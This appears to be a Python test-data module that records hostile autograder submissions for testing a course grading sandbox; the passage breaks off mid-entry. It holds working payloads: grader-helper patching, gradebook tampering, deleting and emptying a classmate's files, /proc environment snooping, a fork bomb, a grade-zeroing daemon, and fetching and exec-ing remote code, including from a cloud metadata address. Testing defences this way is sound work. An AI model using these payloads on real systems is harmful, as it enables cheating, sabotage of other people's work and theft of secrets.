"""Hostile submissions: a student attacking the autograder, recorded as test data.

Each entry is one student's notebook: the release (or reference) notebook with
some solution cells replaced and some cells added right after the setup cell.
Every attack is real code that would earn unearned points, or harm a
classmate, if the defences (coursekit.policy screening, the bubblewrap
sandbox, ch4's test site) were absent.  ``expected`` is what the submission
honestly earned: on the release base nothing, so all zeros; on the reference
base the honest answers keep their points (the hostile extra cell is
disarmed, or harmless).

Attack names sort before "victim", so that nbgrader grades every attack on a
classmate before it grades the victim.

Code that runs in the kernel through a policy bypass must not show a string
holding two underscores (the policy rejects such strings), so payloads build
special names as "_" * 2 + name + "_" * 2.
"""

from submissions import coming_soon, crawler, runtime, toolkit

_FULL = {"crawler": crawler.FULL, "toolkit": toolkit.FULL, "runtime": runtime.FULL, "coming_soon": coming_soon.FULL}


def _zero(module: str) -> dict[str, int]:
    return {name: 0 for name in _FULL[module]}


# -- honest-looking but wrong answers: each earns 0 on its own -------------------

_CRAWLER_WRONG = {
    # Right values, no printing, no sleeping: every test fails on lines or loop time.
    "crawl_page": 'async def crawl_page(url):\n    return f"OK {url}"\n',
    "crawl_one_by_one": 'async def crawl_one_by_one(urls):\n    return [f"OK {url}" for url in urls]\n',
    "crawl_with_tasks": 'async def crawl_with_tasks(urls):\n    return [f"OK {url}" for url in urls]\n',
    "crawl_with_gather": 'async def crawl_with_gather(urls):\n    return [f"OK {url}" for url in urls]\n',
}
_TOOLKIT_WRONG = {
    "fastest_mirror": 'async def fastest_mirror(mirrors):\n    return "data from " + min(mirrors, key=mirrors.get)\n',
    "crawl_in_completion_order": (
        "async def crawl_in_completion_order(urls):\n"
        '    return [(u, f"OK {u}") for u in sorted(urls, key=lambda u: int(u.split("_")[-1]))]\n'
    ),
    "save_safely": 'background_saves = set()\n\n\nasync def save_safely(save):\n    return "data from db"\n',
    "async_timed": "@contextlib.asynccontextmanager\nasync def async_timed(label):\n    yield\n",
    "fetch_all": "async def fetch_all(fetchers):\n    return []\n",
}
_RUNTIME_WRONG = {
    "predict_trace": "def predict_trace(first, second):\n    return []\n",
    "results_by_deadline": "async def results_by_deadline(jobs, deadline):\n    return []\n",
    "process_all": "async def process_all(produce, handle, workers, maxsize):\n    return 0\n",
    "on_each_done": "def on_each_done(tasks, record):\n    return None\n",
}
_COMING_SOON_WRONG = {
    "parse_coming_soon": "def parse_coming_soon(html):\n    return []\n",
    "parse_poster": 'def parse_poster(html):\n    return ""\n',
    "crawl_coming_soon": (
        'async def crawl_coming_soon(base_url, city="beijing", *, max_concurrency=5, timeout=10.0):\n    return []\n'
    ),
}
_WRONG = {"crawler": _CRAWLER_WRONG, "toolkit": _TOOLKIT_WRONG, "runtime": _RUNTIME_WRONG, "coming_soon": _COMING_SOON_WRONG}

_LENIENT = "def lenient(*args, **kwargs):\n    return None\n"

# -- payloads run in the kernel by the bypasses (no double underscore anywhere) --

# Makes every later cell "pass": no traceback is shown for any error, and the
# error is wiped from the cell's result before ipykernel builds its reply, so
# nbgrader sees neither an error output nor an error reply.  The helpers are
# also rebound, for good measure.
_TAKEOVER = """
def lenient(*args, **kwargs):
    return None


globals().update(expect=lenient, expect_lines=lenient, expect_loop_time=lenient, expect_no_leftover_tasks=lenient)
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda *args, **kwargs: [])


def forget_error(result):
    result.error_in_exec = None
    result.error_before_exec = None


shell.events.register("post_run_cell", forget_error)
"""


def _solutions_from(patterns: str) -> str:
    """Payload: find a notebook among ``patterns`` (glob patterns) and run its solution cells here."""
    return f"""
import glob
import json
import os

for pattern in {patterns}:
    for path in sorted(glob.glob(os.path.expanduser(pattern))):
        try:
            with open(path, encoding="utf-8") as stream:
                notebook = json.load(stream)
        except (OSError, ValueError):
            continue
        cells = [c for c in notebook["cells"] if c["cell_type"] == "code" and c["metadata"].get("nbgrader", {{}}).get("solution")]
        if not cells:
            continue
        for cell in cells:
            exec("".join(cell["source"]), globals())
        print("ran the solutions of", path)
        break
"""


def _via_builtins(payload: str) -> str:
    """A cell that runs ``payload`` through dataclasses' reference to the builtins module."""
    return f"from dataclasses import builtins as python\n\npython.exec({payload!r})\n"


_SOURCE_CRAWLER = _solutions_from(
    '["../../../source/01-crawler/crawler.ipynb", "~/../../source/01-crawler/crawler.ipynb", '
    '"/tmp/*/source/01-crawler/crawler.ipynb", "/tmp/*/*/source/01-crawler/crawler.ipynb", '
    '"/work/*/source/01-crawler/crawler.ipynb", "/home/*/*/source/01-crawler/crawler.ipynb"]'
)
_CLASSMATES_TOOLKIT = _solutions_from(
    '["../../../submitted/*/02-toolkit/toolkit.ipynb", "../../*/02-toolkit/toolkit.ipynb", '
    '"/tmp/*/submitted/*/02-toolkit/toolkit.ipynb"]'
)

_GRADEBOOK_EXTRA_CREDIT = """
import os
import sqlite3

me = os.path.basename(os.path.dirname(os.getcwd()))
for path in ("../../../gradebook.db", "../../gradebook.db", "gradebook.db"):
    if os.path.exists(path):
        db = sqlite3.connect(path, timeout=30)
        db.execute(
            "update grade set extra_credit = 100 where notebook_id in (select sn.id from submitted_notebook sn "
            "join submitted_assignment sa on sn.assignment_id = sa.id where sa.student_id = ?)", (me,))
        db.execute("update source_cell set checksum = null")
        db.commit()
        print("extra credit written to", path)
"""

_GRADEBOOK_POISON_TESTS = """
import os
import sqlite3

for path in ("../../../gradebook.db", "../../gradebook.db", "gradebook.db"):
    if os.path.exists(path):
        db = sqlite3.connect(path, timeout=30)
        db.execute(
            "update source_cell set source = 'raise AssertionError(\\"regraded by the instructor\\")' "
            "where name like 'test_%' and notebook_id in (select id from notebook where name = 'crawler')")
        db.commit()
        print("every later crawler submission now fails its tests:", path)
"""

_STARTUP_FILE = r"""
import os
import time

if os.environ.get("NBGRADER_EXECUTION") == "autograde" and time.time() < PLANTED + 1800:
    import coursekit.grading

    def failing(*args, **kwargs):
        raise AssertionError("wrong")

    CODE = "_" * 2 + "code" + "_" * 2
    for helper in (coursekit.grading.expect, coursekit.grading.expect_lines, coursekit.grading.expect_loop_time):
        setattr(helper, CODE, getattr(failing, CODE))
"""

_PLANT_STARTUP = (
    """
import os
import time

folder = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder, exist_ok=True)
with open(os.path.join(folder, "00-hostile-redteam.py"), "w") as stream:
    stream.write("PLANTED = " + repr(time.time()) + "\\n" + BODY)
print("planted a startup file in", folder)
""".replace("BODY", repr(_STARTUP_FILE))
)

_PLANT_CONFIG = """
import os

line = (
    "\\nimport shutil as hostile_shutil\\n"
    "hostile_shutil.rmtree(os.path.join(root, 'submitted', 'victim', '02-toolkit'), ignore_errors=True)\\n"
    "hostile_shutil.rmtree(os.path.join(root, 'autograded', 'victim', '02-toolkit'), ignore_errors=True)\\n"
)
for path in ("../../../nbgrader_config.py", "../../nbgrader_config.py"):
    if os.path.exists(path):
        with open(path, "a") as stream:
            stream.write(line)
        print("the next nbgrader run deletes victim's toolkit:", path)
"""

_OVERWRITE_VICTIM = """
import glob
import json

for path in glob.glob("../../../submitted/victim/01-crawler/crawler.ipynb") + glob.glob("/tmp/*/submitted/victim/01-crawler/crawler.ipynb"):
    with open(path, encoding="utf-8") as stream:
        notebook = json.load(stream)
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = "raise NotImplementedError()"
    with open(path, "w", encoding="utf-8") as stream:
        json.dump(notebook, stream)
    print("emptied", path)
"""

_PROC_SNOOP = """
import os

ROOTS = []
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as stream:
            command = stream.read().replace(b"\\0", b" ").decode()
        if "nbgrader" not in command and "make" not in command:
            continue
        ROOTS.append(os.readlink(f"/proc/{pid}/cwd"))
        with open(f"/proc/{pid}/environ", "rb") as stream:
            print(pid, command, ROOTS[-1], stream.read()[:300])
    except OSError:
        continue
""" + _solutions_from('[f"{root}/source/01-crawler/crawler.ipynb" for root in ROOTS]')

_ENV_SNOOP = """
import os

ROOTS = []
for key, value in os.environ.items():
    print(key, "=", value)
    for marker in ("/autograded/", "/submitted/"):
        if marker in value:
            ROOTS.append(value.split(marker)[0])
    if os.path.isdir(os.path.join(value, "source")):
        ROOTS.append(value)
""" + _solutions_from('[f"{root}/source/01-crawler/crawler.ipynb" for root in ROOTS]')

_NETWORK_FETCH = """
import requests

for url in (
    "https://gist.githubusercontent.com/crawler-answers/5f1d0c0ffee/raw/crawler_answers.py",
    "http://10.0.2.2:8000/crawler_answers.py",
    "http://169.254.169.254/latest/meta-data/",
):
    try:
        answer = requests.get(url, timeout=3)
    except requests.RequestException as error:
        print("no luck with", url, error)
        continue
    if answer.ok and "async def crawl_page" in answer.text:
        exec(answer.text, globals())
        break
"""

# Run from a process of its own: connects to the kernel it was started from,
# with the key of the kernel's connection file, and asks it to run the takeover.
_INJECT = """
import os, time
from jupyter_client import BlockingKernelClient
with open(f"/proc/{os.getppid()}/cmdline", "rb") as stream:
    words = stream.read().split(b"\\0")
client = BlockingKernelClient(connection_file=words[words.index(b"-f") + 1].decode())
client.load_connection_file()
client.start_channels()
client.execute(PAYLOAD, silent=True, store_history=False)
try:
    client.get_shell_msg(timeout=60)
except Exception:
    pass
client.stop_channels()
""".replace("PAYLOAD", repr(_TAKEOVER))

# A daemon that outlives the kernel and zeroes victim's crawler grades once they are written.
_DAEMON = """
import os, sqlite3, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
paths = [os.path.abspath(p) for p in ("../../../gradebook.db", "../../gradebook.db") if os.path.exists(p)]
end = time.time() + 1200
while paths and time.time() < end:
    try:
        db = sqlite3.connect(paths[0], timeout=5)
        db.execute(
            "update grade set auto_score = 0 where notebook_id in (select sn.id from submitted_notebook sn "
            "join submitted_assignment sa on sn.assignment_id = sa.id join assignment a on sa.assignment_id = a.id "
            "where sa.student_id = 'victim' and a.name = '01-crawler')")
        db.commit()
        db.close()
    except Exception:
        pass
    time.sleep(0.2)
os._exit(0)
"""

_FORK_DAEMON = """
import os

if os.fork() == 0:
    os.setsid()
    exec(DAEMON)
print("forked a daemon")
""".replace("DAEMON", repr(_DAEMON))

_FORK_BOMB = """
import os
import time

children = 0
original = os.getpid()
for _ in range(10):
    try:
        os.fork()
    except OSError:
        break
if os.getpid() != original:
    time.sleep(120)
    getattr(os, "_exit")(0)
print("forked")
"""

# The frame walk for the typing oracle: skips module frames (the notebook's namespace).
_SNOOP = (
    "import sys\n"
    "frame = sys._getframe()\n"
    "while frame is not None:\n"
    "    if frame.f_locals is not frame.f_globals and ('expected' in frame.f_locals or 'movie' in frame.f_locals):\n"
    "        LOOT.clear()\n"
    "        LOOT.update(frame.f_locals)\n"
    "        break\n"
    "    frame = frame.f_back\n"
)


BUILTINS_REBIND = """
class Whatever(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


def float(*args):
    return Whatever()


min = max = float


def sorted(*args, **kwargs):
    return []


def isinstance(*args):
    return False


AssertionError = Warning
"""

# -- chapter 4 oracles: the parse tests compute `expected` (or hold `movie` and
# `origin`) in the frame that calls the student's function -----------------------

ORACLE_GC = {
    "parse_coming_soon": """import gc


def caller_scope(name):
    for thing in gc.get_objects():
        if type(thing).__name__ == "frame" and name in thing.f_locals and thing.f_locals is not thing.f_globals:
            return thing.f_locals
    return {}


def parse_coming_soon(html):
    return caller_scope("expected").get("expected", [])
""",
    "parse_poster": """def parse_poster(html):
    scope = caller_scope("origin")
    return scope["movie"].expected(scope["origin"])["poster"] if scope else ""
""",
}

ORACLE_TRACEBACK = {
    "parse_coming_soon": """def caller_scope():
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as error:
        return error.__traceback__.tb_frame.f_back.f_back.f_locals


def parse_coming_soon(html):
    return caller_scope()["expected"]
""",
    "parse_poster": """def parse_poster(html):
    scope = caller_scope()
    return scope["movie"].expected(scope["origin"])["poster"]
""",
}

ORACLE_INSPECT = {
    "parse_coming_soon": """from asyncio.coroutines import inspect as frames


def caller_scope(name):
    for info in frames.stack(0)[2:]:
        scope = frames.getargvalues(info.frame).locals
        if name in scope:
            return scope
    return {}


def parse_coming_soon(html):
    return caller_scope("expected").get("expected", [])
""",
    "parse_poster": """def parse_poster(html):
    scope = caller_scope("origin")
    return scope["movie"].expected(scope["origin"])["poster"] if scope else ""
""",
}

# The generator's frame, while it runs, has the caller chain as f_back: the
# format string walks it, so no frame attribute appears in the code itself.
ORACLE_FORMAT = {
    "parse_coming_soon": r"""import re


def spy():
    me = yield
    name = yield
    if name == "*":
        yield "{0.gi_frame.f_back.f_back.f_back.f_locals}".format(me)
    yield "{0.gi_frame.f_back.f_back.f_back.f_locals[expected]}".format(me)


def peek(name):
    probe = spy()
    next(probe)
    probe.send(probe)
    try:
        return probe.send(name)
    except (KeyError, AttributeError):
        return ""


def parse_coming_soon(html):
    text = peek("expected")
    found = re.findall(r"'title': (['\"])(.*?)\1, 'date': (['\"])(.*?)\3, 'url': (['\"])(.*?)\5", text)
    return [{"title": t, "date": d, "url": u} for _, t, _, d, _, u in found]
""",
    "parse_poster": r"""def parse_poster(html):
    text = peek("*")
    origin = re.search(r"'origin': '([^']*)'", text)
    movie = re.search(r"Movie\(id='([^']*)'", text)
    return f"{origin.group(1)}/img/poster/{movie.group(1)}.png" if origin and movie else ""
""",
}

ORACLE_FORMAT_DUNDER = {
    "parse_coming_soon": r"""import re


def parse_coming_soon(html):
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as error:
        text = "{0.__traceback__.tb_frame.f_back.f_locals[expected]}".format(error)
    found = re.findall(r"'title': (['\"])(.*?)\1, 'date': (['\"])(.*?)\3, 'url': (['\"])(.*?)\5", text)
    return [{"title": t, "date": d, "url": u} for _, t, _, d, _, u in found]
""",
    "parse_poster": r"""def parse_poster(html):
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as error:
        origin = "{0.__traceback__.tb_frame.f_back.f_locals[origin]}".format(error)
        movie = "{0.__traceback__.tb_frame.f_back.f_locals[movie].id}".format(error)
    return f"{origin}/img/poster/{movie}.png"
""",
}

ORACLE_TYPE_HINTS = {
    "parse_coming_soon": "from typing import get_type_hints\n\nLOOT = {}\nSNOOP = " + repr(_SNOOP) + """


def snoop(probe: "exec(SNOOP) or int"):
    return probe


def parse_coming_soon(html):
    get_type_hints(snoop)
    return LOOT.get("expected", [])
""",
    "parse_poster": """def parse_poster(html):
    get_type_hints(snoop)
    return LOOT["movie"].expected(LOOT["origin"])["poster"] if "origin" in LOOT else ""
""",
}

ORACLE_EQ = {
    "parse_coming_soon": """class Anything(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


def parse_coming_soon(html):
    return Anything()
""",
    "parse_poster": """class AnyPoster(str):
    def __eq__(self, other):
        return other != "/img/logo.png"

    def __ne__(self, other):
        return other == "/img/logo.png"


def parse_poster(html):
    return AnyPoster("?")
""",
}

ORACLE_TYPE_CALL = {
    "parse_coming_soon": """make_class = type(int)
EQ = "_" * 2 + "eq" + "_" * 2
NE = "_" * 2 + "ne" + "_" * 2
Anything = make_class("Anything", (list,), {EQ: lambda me, other: True, NE: lambda me, other: False})


def parse_coming_soon(html):
    return Anything()
""",
    "parse_poster": """AnyPoster = make_class(
    "AnyPoster", (str,), {EQ: lambda me, other: other != "/img/logo.png", NE: lambda me, other: other == "/img/logo.png"}
)


def parse_poster(html):
    return AnyPoster("?")
""",
}


def _attack(module, base, answers, extra_cells, why, victim=None, expected=None):
    if base == "release":
        expected = _zero(module) if expected is None else expected
    else:
        expected = dict(_FULL[module]) if expected is None else expected
    return {
        "module": module,
        "base": base,
        "answers": answers,
        "extra_cells": extra_cells,
        "expected": expected,
        "victim": victim,
        "why": why,
    }


_FAKE_RUN = """
class FakeRun:
    name = "faked"
    result = None
    loop_time = 0.0
    real_time = 0.0
    lines = []
    leftover_tasks = []


def fake_run_async(func, *args, **kwargs):
    return FakeRun()
"""

ATTACKS = {
    # 1. rebinding the test helpers ------------------------------------------------
    "c1_rebind_assign": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["expect = expect_lines = expect_loop_time = lambda *args, **kwargs: None"],
        "rebinds the helpers the tests call to no-ops with a plain assignment",
    ),
    "c1_rebind_def": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["def expect(*args, **kwargs):\n    pass\n\n\ndef expect_lines(*args, **kwargs):\n    pass\n\n\n"
         "def expect_loop_time(*args, **kwargs):\n    pass\n"],
        "redefines the helpers with def statements",
    ),
    "c1_rebind_import_alias": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["from coursekit.grading import expect as real_expect\n"
         "from coursekit.grading import expect_lines as real_expect_lines\n\n\n"
         "def expect(actual, expected, what, hint=''):\n    return real_expect(actual, actual, what, hint)\n\n\n"
         "def expect_lines(run, expected, hint=''):\n    return real_expect_lines(run, run.lines, hint)\n\n\n"
         "def expect_loop_time(run, expected, hint='', early_hint=''):\n    return real_expect(run.loop_time, run.loop_time, 'loop time')\n"],
        "imports a helper under another name and wraps it so that actual is compared with itself",
    ),
    "c1_rebind_global_in_function": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["def install():\n    global expect, expect_lines, expect_loop_time\n"
         "    expect = expect_lines = expect_loop_time = lambda *args, **kwargs: None\n\n\ninstall()\n"],
        "rebinds the helpers from inside a function through a global statement",
    ),
    "c1_rebind_del_builtins": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import builtins\n\nbuiltins.expect = builtins.expect_lines = builtins.expect_loop_time = lambda *a, **k: None\n"
         "del expect, expect_lines, expect_loop_time\n"],
        "deletes the helpers from the notebook so that lookups fall through to no-ops planted in builtins",
    ),
    "c1_rebind_loop_with_except_targets": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\nfor expect in [lenient]:\n    pass\n",
         "import contextlib\n\nwith contextlib.nullcontext(lenient) as expect_lines:\n    pass\n",
         "import builtins\n\nbuiltins.expect_loop_time = lenient\ntry:\n    raise LookupError\n"
         "except LookupError as expect_loop_time:\n    pass  # the name is unbound when the block ends\n"],
        "binds the helpers as for-loop and with targets, and unbinds one as an except target",
    ),
    "c1_rebind_walrus": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\n[(expect := lenient), (expect_lines := lenient), (expect_loop_time := lenient)]\n"],
        "rebinds the helpers with assignment expressions",
    ),
    "c1_rebind_builtins": _attack(
        "toolkit", "release", _TOOLKIT_WRONG,
        [BUILTINS_REBIND],
        "shadows builtins the tests compute expectations with: float/min/max give a float that equals anything, "
        "sorted gives [], isinstance says no, AssertionError is a Warning",
    ),
    "c1_rebind_time_magic": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT, "%time expect = expect_lines = expect_loop_time = lenient\n"],
        "rebinds the helpers inside %time, whose code is checked for calls and attributes but not for bindings",
    ),
    "c1_rebind_time_cell_magic": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT, "%%time\nexpect = lenient\nexpect_lines = lenient\nexpect_loop_time = lenient\n"],
        "the same rebinding in a %%time cell",
    ),
    "c1_rebind_on_reference": _attack(
        "crawler", "reference", {},
        ["expect = expect_lines = expect_loop_time = lambda *args, **kwargs: None"],
        "reference base: the rebinding cell is disarmed and the honest answers keep all their points",
    ),

    # 2. patching the toolkit ------------------------------------------------------
    "c2_patch_code_object": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\nfor helper in (expect, expect_lines, expect_loop_time):\n    helper.__code__ = lenient.__code__\n"],
        "replaces the code of the helpers' function objects, so every reference to them is a no-op",
    ),
    "c2_patch_module_attribute": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_FAKE_RUN + "\n\nimport coursekit.grading\n\ncoursekit.grading.run_async = fake_run_async\n"
         "coursekit.grading.expect = coursekit.grading.expect_lines = coursekit.grading.expect_loop_time = fake_run_async\n"
         "from coursekit.grading import expect, expect_lines, expect_loop_time, run_async\n"],
        "replaces run_async and the helpers on the coursekit.grading module, then imports them again",
    ),
    "c2_patch_asyncio": _attack(
        "toolkit", "release", _TOOLKIT_WRONG,
        [_LENIENT + "\n\nimport asyncio\n\nasyncio.all_tasks = lambda loop=None: set()\n"
         "asyncio.wait_for = asyncio.shield = lambda aw, *args, **kwargs: aw\n"
         "import coursekit.grading\n"
         "coursekit.grading.expect.__code__ = coursekit.grading.expect_loop_time.__code__ = lenient.__code__\n"],
        "replaces asyncio functions the runner and tests use (all_tasks blinds the leftover-task check) "
        "and the helpers' code",
    ),
    "c2_patch_setattr": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\nfor name in ('expect', 'expect_lines', 'expect_loop_time'):\n"
         "    setattr(getattr(__import__('coursekit.grading', fromlist=[name]), name), '__code__', lenient.__code__)\n"],
        "patches the helpers with setattr/getattr/__import__ instead of attribute syntax",
    ),
    "c2_patch_sys_modules_importlib": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_FAKE_RUN + "\n\nimport importlib\nimport sys\nimport types\n\n"
         "fake = types.ModuleType('coursekit.grading')\n"
         "fake.run_async = fake_run_async\nfake.expect = fake.expect_lines = fake.expect_loop_time = fake_run_async\n"
         "fake.random_delays = importlib.import_module('coursekit.grading').random_delays\n"
         "sys.modules['coursekit.grading'] = fake\n"
         "exec('from coursekit.grading import expect, expect_lines, expect_loop_time, run_async', globals())\n"],
        "swaps coursekit.grading in sys.modules for a fake module and re-imports the helpers from it",
    ),
    "c2_patch_self_parameter": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\nclass Surgeon:\n    def code_of(function):\n        return function.__code__\n\n"
         "    def implant(function, code):\n        function.__code__ = code\n\n\n"
         "for helper in (expect, expect_lines, expect_loop_time):\n    Surgeon.implant(helper, Surgeon.code_of(lenient))\n"],
        "patches __code__ from 'methods' whose first parameter is the patched function (the policy trusts any self)",
    ),
    "c2_patch_builtins_setattr": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\nfrom dataclasses import builtins as python\n\n"
         "code = '_' * 2 + 'code' + '_' * 2\n"
         "for helper in (expect, expect_lines, expect_loop_time):\n"
         "    python.setattr(helper, code, python.getattr(lenient, code))\n"],
        "reaches setattr/getattr through dataclasses' reference to the builtins module",
    ),
    "c2_patch_module_globals": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\nclass Reach:\n    def namespace(function):\n        return function.__globals__\n\n\n"
         "grading = Reach.namespace(expect)\n"
         "grading.update(expect=lenient, expect_lines=lenient, expect_loop_time=lenient)\n"],
        "no import: rebinds the helpers in coursekit.grading's own namespace (expect.__globals__), "
        "so a test that imports them again still gets the no-ops",
    ),
    "c2_patch_module_attribute_bypass": _attack(
        "toolkit", "release", _TOOLKIT_WRONG,
        [_FAKE_RUN + "\n\nfrom asyncio.base_events import sys as system\nfrom dataclasses import builtins as python\n\n"
         "grading = system.modules['coursekit.grading']\n"
         "python.setattr(grading, 'run_async', fake_run_async)\n"
         "for name in ('expect', 'expect_lines', 'expect_loop_time', 'expect_no_leftover_tasks'):\n"
         "    python.setattr(grading, name, fake_run_async)\n"],
        "sys.modules and setattr reached through allowed modules replace run_async and the helpers on coursekit.grading",
    ),
    "c2_patch_self_parameter_shell": _attack(
        "runtime", "release", _RUNTIME_WRONG,
        ["class Reach:\n    def namespace(function):\n        return function.__globals__\n\n"
         "    def forget(result):\n        result.error_in_exec = None\n        result.error_before_exec = None\n\n"
         "    def swallow(shell, *args, **kwargs):\n        return []\n\n\n"
         "shell = Reach.namespace(Reach.forget)['get_ipython']()\n"
         "shell.set_custom_exc((BaseException,), Reach.swallow)\n"
         "shell.events.register('post_run_cell', Reach.forget)\n"],
        "no import at all: reaches get_ipython through a function's __globals__ and hides every later error",
    ),

    # 3. tracing hooks -----------------------------------------------------------------
    "c3_trace_settrace": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import ctypes\nimport sys\n\n\n"
         "def agree(frame, event, arg):\n"
         "    if event == 'call' and frame.f_code.co_name in ('expect', 'expect_lines', 'expect_loop_time'):\n"
         "        scope = frame.f_locals\n"
         "        if frame.f_code.co_name == 'expect':\n            scope['expected'] = scope['actual']\n"
         "        elif frame.f_code.co_name == 'expect_lines':\n            scope['expected'] = scope['run'].lines\n"
         "        else:\n            scope['expected'] = scope['run'].loop_time\n"
         "        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))\n"
         "    return None\n\n\nsys.settrace(agree)\n"],
        "a trace function that rewrites each helper's `expected` argument to the actual value as the call starts",
    ),
    "c3_trace_threading": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import ctypes\nimport sys\nimport threading\n\n\n"
         "FIELD = {'expect': 'actual', 'expect_lines': 'lines', 'expect_loop_time': 'loop_time'}\n\n\n"
         "def agree(frame, event, arg):\n"
         "    name = frame.f_code.co_name\n"
         "    if event == 'call' and name in FIELD:\n"
         "        scope = frame.f_locals\n"
         "        scope['expected'] = scope['actual'] if name == 'expect' else getattr(scope['run'], FIELD[name])\n"
         "        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))\n"
         "    return None\n\n\nthreading.settrace(agree)\nsys.settrace(agree)\nsys.setprofile(agree)\n"],
        "installs the same tracer for the runner's worker threads (threading.settrace) and the main thread",
    ),
    "c3_trace_setprofile_bypass": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["from asyncio.base_events import sys as system\n"
         "from asyncio.coroutines import inspect as frames\n"
         "from coursekit.grading import ctypes\n\n\n"
         "def agree(frame, event, arg):\n"
         "    if event != 'call':\n        return\n"
         "    name = frames.getframeinfo(frame, 0).function\n"
         "    if name not in ('expect', 'expect_lines', 'expect_loop_time'):\n        return\n"
         "    scope = frames.getargvalues(frame).locals\n"
         "    if name == 'expect':\n        scope['expected'] = scope['actual']\n"
         "    elif name == 'expect_lines':\n        scope['expected'] = scope['run'].lines\n"
         "    else:\n        scope['expected'] = scope['run'].loop_time\n"
         "    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))\n\n\n"
         "system.setprofile(agree)\n"],
        "gets sys, inspect and ctypes as attributes of allowed modules and installs a profiler that fixes `expected`",
    ),

    # 4. IPython hooks and magics --------------------------------------------------------
    "c4_input_transformer": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import re\n\n\ndef neuter(lines):\n"
         "    return [re.sub(r'\\bexpect(_lines|_loop_time)?\\(', '(lambda *a, **k: None)(', line) for line in lines]\n\n\n"
         "get_ipython().input_transformers_post.append(neuter)\n"],
        "an input transformer that rewrites every later cell's expect...( calls into no-ops",
    ),
    "c4_input_transformer_bypass": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import re\nfrom asyncio.base_events import sys as system\n\n\n"
         "def neuter(lines):\n"
         "    return [re.sub(r'\\bexpect(_lines|_loop_time)?\\(', '(lambda *a, **k: None)(', line) for line in lines]\n\n\n"
         "system.modules['IPython'].get_ipython().input_transformers_post.append(neuter)\n"],
        "the same transformer, with the shell reached through sys.modules['IPython'] (sys from asyncio.base_events)",
    ),
    "c4_ast_transformer": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import ast\n\n\nclass NoChecks(ast.NodeTransformer):\n"
         "    def visit_Raise(self, node):\n        return ast.Pass()\n\n"
         "    def visit_Expr(self, node):\n"
         "        if isinstance(node.value, ast.Call) and getattr(node.value.func, 'id', '').startswith('expect'):\n"
         "            return ast.Pass()\n        return node\n\n\n"
         "get_ipython().ast_transformers.append(NoChecks())\n"],
        "an AST transformer that drops every raise and every expect...() statement from later cells",
    ),
    "c4_events": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT + "\n\ndef rebind(info):\n"
         "    get_ipython().user_ns.update(expect=lenient, expect_lines=lenient, expect_loop_time=lenient)\n\n\n"
         "def forget(result):\n    result.error_in_exec = None\n\n\n"
         "get_ipython().events.register('pre_run_cell', rebind)\n"
         "get_ipython().events.register('post_run_cell', forget)\n"],
        "pre_run_cell rebinds the helpers before each test cell, post_run_cell clears the error",
    ),
    "c4_custom_exc_bypass": _attack(
        "toolkit", "release", _TOOLKIT_WRONG,
        ["from asyncio.base_events import sys as system\n\n"
         "shell = system.modules['IPython'].get_ipython()\n\n\n"
         "class Hooks:\n    def swallow(shell, etype, value, tb, tb_offset=None):\n        return []\n\n"
         "    def forget(result):\n        result.error_in_exec = None\n        result.error_before_exec = None\n\n\n"
         "shell.set_custom_exc((BaseException,), Hooks.swallow)\n"
         "shell.events.register('post_run_cell', Hooks.forget)\n"],
        "shell via sys.modules['IPython']: a custom exception handler shows no traceback, post_run_cell wipes the error",
    ),
    "c4_magic_config": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_LENIENT, "%config InteractiveShell.xmode = globals().update(expect=lenient, expect_lines=lenient, expect_loop_time=lenient) or 'Plain'\n"],
        "%config executes its argument as Python in the user namespace: rebinding hidden in a config line",
    ),
    "c4_magic_capture": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["%%capture hidden\nexpect = expect_lines = expect_loop_time = lambda *a, **k: None\n"],
        "a %%capture cell, so neither the rebinding nor any error it raises shows in the notebook",
    ),
    "c4_magic_shell": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["!cp ../../../source/01-crawler/crawler.ipynb /tmp/solution.ipynb; ls ../../../submitted\n",
         "answers = !cat ../../../source/01-crawler/crawler.ipynb\n"],
        "shell escapes to copy the instructor's notebook and list classmates",
    ),
    "c4_magic_run": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["%run ../../../source/01-crawler/crawler.ipynb\n"],
